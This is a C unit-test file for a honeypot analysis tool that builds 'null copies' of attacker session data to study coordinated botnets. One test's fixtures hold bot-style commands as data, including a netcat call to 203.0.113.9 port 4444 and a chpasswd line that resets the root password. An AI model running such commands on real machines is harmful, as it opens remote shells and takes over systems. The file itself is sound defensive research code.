/* test_decoordinate.c - a null copy keeps what every source does and how popular everything is, and nothing of who acts
 * together. */
#include "generate/generate.h"

#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <setjmp.h>
#include <cmocka.h>

#define START INT64_C(1740960000000000) /* 2025-03-03T00:00:00Z */

struct copies {
	struct session_table real, null;
};

static struct session_table
null_copy(const struct session_table *real, uint64_t seed)
{
	struct session_builder *builder = session_builder_new();
	struct session_table t;
	struct coord_error err;

	assert_non_null(builder);
	assert_int_equal(generate_decoordinate(real, seed, builder, &err), COORD_OK);
	assert_int_equal(session_builder_finish(builder, &t, NULL, &err), COORD_OK);
	assert_null(session_table_check(&t));
	session_builder_free(builder);
	return t;
}

static struct copies
make(void)
{
	static const struct generate_plan plan = { .structure = STRUCTURE_C1,
		.difficulty = DIFFICULTY_EASY,
		.members = 60,
		.visits = 20 };
	struct generate_config c = { .seed = 5,
		.sources = 400,
		.sessions = 3000,
		.sensors = 2,
		.plans = &plan,
		.n_plans = 1 };
	struct session_builder *builder = session_builder_new();
	struct generate_labels labels;
	struct copies copies;
	struct coord_error err;

	assert_non_null(builder);
	assert_int_equal(generate_sessions(&c, builder, &labels, &err), COORD_OK);
	assert_int_equal(session_builder_finish(builder, &copies.real, NULL, &err), COORD_OK);
	session_builder_free(builder);
	generate_labels_clear(&labels);
	copies.null = null_copy(&copies.real, 1);
	return copies;
}

static void
copies_clear(struct copies *c)
{
	session_table_free(&c->real);
	session_table_free(&c->null);
}

static uint64_t
source_key(const struct session_table *t, uint32_t row)
{
	return hash_content((struct sv){ (const char *)t->source[row].bytes, 16 });
}

/* Order-free sum over distinct (what a source has) pairs, and how many there are. */
struct tally {
	uint64_t sum, n;
};

static void
tally_add(struct tally *tally, struct map *seen, uint64_t pair, uint64_t value)
{
	uint32_t *slot = map_slot(seen, pair);

	assert_non_null(slot);
	if (*slot != MAP_NONE)
		return;
	*slot = 1;
	tally->sum += hash_mix(value, 1);
	tally->n++;
}

static uint64_t
credential_key(const struct session_table *t, const struct session_item *item)
{
	return hash_mix(strtab_hash(t->strings, item->a), strtab_hash(t->strings, item->b));
}

/* Distinct (source, credential) pairs, summed by credential: equal sums, equal popularity of every credential. */
static struct tally
credential_popularity(const struct session_table *t)
{
	struct map seen = MAP_INIT;
	struct tally tally = { 0 };

	for (uint32_t row = 0; row < t->n; row++) {
		for (uint32_t i = t->item_start[row]; i < t->item_start[row + 1]; i++) {
			uint64_t key = credential_key(t, &t->items[i]);

			if (t->items[i].kind == ITEM_CREDENTIAL)
				tally_add(&tally, &seen, hash_mix(source_key(t, row), key), key);
		}
	}
	map_clear(&seen);
	return tally;
}

static void
test_keeps_popularity(void **state)
{
	struct copies c = make();
	struct tally real = credential_popularity(&c.real), null = credential_popularity(&c.null);

	(void)state;
	assert_true(real.n > 1000);
	assert_int_equal(real.n, null.n);
	assert_int_equal(real.sum, null.sum);
	copies_clear(&c);
}

static void
test_keeps_sessions_and_sources(void **state)
{
	struct copies c = make();
	struct tally sources[2] = { { 0 } }, ids[2] = { { 0 } };

	(void)state;
	assert_int_equal(c.real.n, c.null.n);
	assert_int_equal(c.real.n_items, c.null.n_items);
	for (unsigned side = 0; side < 2; side++) {
		const struct session_table *t = side == 0 ? &c.real : &c.null;
		struct map seen_sources = MAP_INIT, seen_ids = MAP_INIT;

		for (uint32_t row = 0; row < t->n; row++) {
			uint64_t id = hash_content(session_text(t, row, TEXT_ID));

			tally_add(
			    &sources[side], &seen_sources, source_key(t, row), source_key(t, row));
			tally_add(&ids[side], &seen_ids, id, id);
		}
		map_clear(&seen_sources);
		map_clear(&seen_ids);
	}
	assert_memory_equal(&sources[0], &sources[1], sizeof(sources[0]));
	assert_memory_equal(&ids[0], &ids[1], sizeof(ids[0]));
	copies_clear(&c);
}

/* Sources that share a hash, a URL or a line with a key. */
static uint32_t
count_shared_artefacts(const struct session_table *t)
{
	struct map owner = MAP_INIT, number = MAP_INIT;
	uint32_t shared = 0, sources = 0;

	for (uint32_t row = 0; row < t->n; row++) {
		uint32_t *source = map_slot(&number, source_key(t, row));

		assert_non_null(source);
		if (*source == MAP_NONE)
			*source = sources++;
		for (uint32_t i = t->item_start[row]; i < t->item_start[row + 1]; i++) {
			const struct session_item *item = &t->items[i];
			struct sv text = session_string(t, item->a);
			uint32_t *slot;

			if (item->kind != ITEM_URL && item->kind != ITEM_FILE_HASH &&
			    !(item->kind == ITEM_COMMAND &&
				(sv_has(text, SV("ssh-rsa")) || sv_has(text, SV("http")))))
				continue;
			slot = map_slot(&owner, hash_content(text));
			assert_non_null(slot);
			shared += *slot != MAP_NONE && *slot != *source;
			*slot = *source;
		}
	}
	map_clear(&owner);
	map_clear(&number);
	return shared;
}

static void
test_artefacts_become_private(void **state)
{
	struct copies c = make();

	(void)state;
	assert_true(count_shared_artefacts(&c.real) > 100);
	assert_int_equal(count_shared_artefacts(&c.null), 0);
	copies_clear(&c);
}

static void
add_source(struct session_builder *builder, uint32_t i, enum session_service service,
    struct session_row_item *items, uint32_t n)
{
	struct session_row row = { .source = addr_from_v4(0x0b000001 + i * 77),
		.start_us = START + (int64_t)i * 100 * TIME_SECOND,
		.end_us = START + (int64_t)i * 100 * TIME_SECOND,
		.service = (uint8_t)service,
		.items = items,
		.n_items = n };
	struct coord_error err;

	assert_int_equal(session_builder_add(builder, &row, &err), COORD_OK);
}

/* Bots that leave one brand, set one password and call one host: afterwards each does so by itself. */
static void
test_marks_become_private(void **state)
{
	static const char *const lines[] = { "/bin/busybox miori", "nc 203.0.113.9 4444",
		"echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", "echo \"root:Sunny12day\"|chpasswd" };
	enum { LINES = sizeof(lines) / sizeof(lines[0]), SOURCES = 40 };
	struct session_builder *builder = session_builder_new();
	struct session_table real, null;
	struct coord_error err;

	(void)state;
	assert_non_null(builder);
	for (uint32_t i = 0; i < SOURCES; i++) {
		struct session_row_item items[LINES];

		for (size_t k = 0; k < LINES; k++)
			items[k] = (struct session_row_item){ .kind = ITEM_COMMAND,
				.a = sv_from(lines[k]) };
		add_source(builder, i, SERVICE_TELNET, items, LINES);
	}
	assert_int_equal(session_builder_finish(builder, &real, NULL, &err), COORD_OK);
	session_builder_free(builder);
	null = null_copy(&real, 1);
	for (uint32_t i = 0; i < null.n_items; i++) {
		struct sv text = session_string(&null, null.items[i].a);

		for (size_t k = 0; k < LINES; k++)
			assert_false(sv_eq(text, sv_from(lines[k])));
		for (uint32_t k = 0; k < i; k++) /* an address has few others of its length */
			assert_true(
			    null.items[i].a != null.items[k].a || sv_starts(text, SV("nc ")));
	}
	session_table_free(&real);
	session_table_free(&null);
}

/* Customers of one proxy ask for the same hundred places, and nobody else asks for any: trading changes nothing there, so
 * that all but a handful of a source's places become its own. */
static void
test_places_forwarded_to(void **state)
{
	enum { SOURCES = 12, PLACES = 100 };
	struct session_builder *builder = session_builder_new();
	struct session_row_item items[PLACES];
	char places[PLACES][32];
	struct session_table real, null;
	struct coord_error err;
	uint32_t same = 0;

	(void)state;
	assert_non_null(builder);
	for (uint32_t k = 0; k < PLACES; k++) {
		(void)snprintf(places[k], sizeof(places[k]), "host-%u.example.net:443", k);
		items[k] =
		    (struct session_row_item){ .kind = ITEM_FORWARD, .a = sv_from(places[k]) };
	}
	for (uint32_t i = 0; i < SOURCES; i++) {

		add_source(builder, i, SERVICE_SSH, items, PLACES);
	}
	assert_int_equal(session_builder_finish(builder, &real, NULL, &err), COORD_OK);
	session_builder_free(builder);
	null = null_copy(&real, 1);
	assert_int_equal(null.n_items, real.n_items);
	for (uint32_t i = 0; i < null.n_items; i++)
		for (uint32_t k = 0; k < PLACES; k++)
			same += sv_eq(session_string(&null, null.items[i].a), sv_from(places[k]));
	assert_in_range(same, SOURCES, 10 * SOURCES); /* five each, give or take */
	session_table_free(&real);
	session_table_free(&null);
}

/* Distinct sources within 30 seconds, at the busiest moment. */
static uint32_t
most_at_once(const struct session_table *t)
{
	uint32_t most = 0;

	for (uint32_t first = 0, row = 0; row < t->n; row++) {
		struct map seen = MAP_INIT;
		uint32_t n = 0;

		while (t->start_us[row] - t->start_us[first] > 30 * TIME_SECOND)
			first++;
		for (uint32_t k = first; k <= row; k++) {
			uint32_t *slot = map_slot(&seen, source_key(t, k));

			assert_non_null(slot);
			n += *slot == MAP_NONE;
			*slot = 1;
		}
		map_clear(&seen);
		most = n > most ? n : most;
	}
	return most;
}

static void
test_synchrony_is_gone(void **state)
{
	struct copies c = make();
	uint32_t before = most_at_once(&c.real);

	(void)state;
	assert_true(before >= 20);
	assert_true(most_at_once(&c.null) <= before / 2);
	copies_clear(&c);
}

/* Visits stay in their hour: the day's shape is not touched. */
static void
test_hours_stay(void **state)
{
	enum { HOURS = 24 * 7 + 1 };
	struct copies c = make();
	int32_t counts[HOURS] = { 0 }, off = 0;
	int64_t start = c.real.start_us[0] / (3600 * TIME_SECOND);

	(void)state;
	for (uint32_t row = 0; row < c.real.n; row++)
		counts[c.real.start_us[row] / (3600 * TIME_SECOND) - start]++;
	for (uint32_t row = 0; row < c.null.n; row++) {
		int64_t hour = c.null.start_us[row] / (3600 * TIME_SECOND) - start;

		assert_in_range(hour, 0, HOURS - 1);
		counts[hour]--;
	}
	for (uint32_t h = 0; h < HOURS; h++)
		off += abs(counts[h]);
	/* only the ends of visits spill over */
	assert_true((uint32_t)off < c.real.n / 10);
	copies_clear(&c);
}

static void
test_seed_decides(void **state)
{
	struct copies c = make();
	struct session_table again = null_copy(&c.real, 1), other = null_copy(&c.real, 2);

	(void)state;
	assert_memory_equal(c.null.input_sha256, again.input_sha256, 32);
	assert_memory_not_equal(c.null.input_sha256, other.input_sha256, 32);
	session_table_free(&again);
	session_table_free(&other);
	copies_clear(&c);
}

static void
test_empty(void **state)
{
	struct session_builder *builder = session_builder_new();
	struct session_table empty, null;
	struct coord_error err;

	(void)state;
	assert_int_equal(session_builder_finish(builder, &empty, NULL, &err), COORD_OK);
	null = null_copy(&empty, 1);
	assert_int_equal(null.n, 0);
	session_table_free(&empty);
	session_table_free(&null);
	session_builder_free(builder);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_keeps_popularity),
		cmocka_unit_test(test_keeps_sessions_and_sources),
		cmocka_unit_test(test_artefacts_become_private),
		cmocka_unit_test(test_marks_become_private),
		cmocka_unit_test(test_places_forwarded_to),
		cmocka_unit_test(test_synchrony_is_gone),
		cmocka_unit_test(test_hours_stay),
		cmocka_unit_test(test_seed_decides),
		cmocka_unit_test(test_empty),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
